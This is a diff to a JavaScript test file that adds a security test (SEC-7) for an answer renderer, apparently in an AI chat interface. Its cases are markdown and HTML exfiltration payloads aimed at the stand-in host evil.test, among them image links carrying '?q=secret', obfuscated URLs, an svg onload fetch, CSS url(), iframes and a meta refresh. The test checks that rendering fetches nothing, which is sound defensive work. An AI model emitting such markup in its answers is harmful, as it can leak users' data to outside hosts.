@@ -31,6 +31,36 @@ describe("an answer", () => {
     expect(fetched).not.toHaveBeenCalled();
   });
 
+  // SEC-7: an answer makes the browser fetch nothing from anywhere, however it is written.
+  it.each([
+    ["an image", "![q](https://evil.test/i?q=secret)"],
+    ["an image by reference", "![q][r]\n\n[r]: https://evil.test/i?q=secret"],
+    ["an image in a link", "[![q](https://evil.test/i)](https://evil.test/l)"],
+    ["an image without a scheme", "![q](//evil.test/i)"],
+    ["an image with backslashes", "![q](\\\\evil.test/i)"],
+    ["an image with a hidden character", "![q](ht\u200Btps://evil.test/i)"],
+    ["an image of data", "![q](data:text/html,<img src=https://evil.test/i>)"],
+    ["an HTML image", '<img src="https://evil.test/i?q=secret">'],
+    ["an HTML image with a set", '<img srcset="https://evil.test/i 2x">'],
+    ["a drawing", '<svg onload="fetch(\'https://evil.test\')"><image href="https://evil.test/i"/></svg>'],
+    ["a style", '<div style="background:url(https://evil.test/i)">x</div>'],
+    ["a frame, a video and an object", '<iframe src="https://evil.test"></iframe><video poster="https://evil.test"></video><object data="https://evil.test"></object>'],
+    ["an address", "<https://evil.test/?q=secret> https://evil.test/?q=secret"],
+    ["a prefetch", '<link rel="prefetch" href="https://evil.test"><meta http-equiv="refresh" content="0;url=https://evil.test">'],
+  ])("with %s fetches nothing", (_, text) => {
+    const fetched = vi.fn();
+    vi.stubGlobal("fetch", fetched);
+    const { container } = show(text);
+    for (const element of container.querySelectorAll("*")) {
+      for (const { name, value } of element.attributes) {
+        const leaves = element.tagName === "A" && name === "href";
+        expect(leaves || !/evil\.test|^\/\/|url\(/i.test(value), `${element.tagName} ${name}=${value}`).toBe(true);
+      }
+    }
+    expect(container.querySelectorAll("img, svg image, iframe, video, object, embed, link, meta, style, script")).toHaveLength(0);
+    expect(fetched).not.toHaveBeenCalled();
+  });
+
   it.each([
     ["**「重點」**很", "「重點」"],
     ["這是**「重點」**。", "「重點」"],
